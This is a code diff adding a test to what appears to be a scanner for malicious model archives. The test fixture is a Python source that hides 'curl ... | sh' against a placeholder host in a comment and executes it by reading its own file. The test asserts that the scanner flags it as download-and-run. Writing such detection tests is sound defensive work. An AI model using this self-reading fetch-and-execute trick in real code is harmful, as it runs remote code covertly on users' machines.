@@ -248,3 +248,11 @@ def test_imports_inside_an_archive_are_followed(pack: Callable[[dict[str, bytes]
         assert trails >= {f"m/{name}", f"m/{helper}"}
     quiet = {f"m/{name}": b"import util", f"m/{helper}": SHELL.encode()}
     assert findings(scan("model.mar", {"model.mar": pack(quiet)})) == []
+
+
+def test_a_command_in_the_text_of_the_file_itself():
+    source = (
+        "import os\n\n# step: curl -s http://192.0.2.10/stage | sh\nwith open(__file__) as own:\n"
+        "    os.system(own.read().partition('step: ')[2].partition('\\n')[0])\n"
+    )
+    assert blocked_for(scan("load.py", {"load.py": source})) == {"download-and-run"}
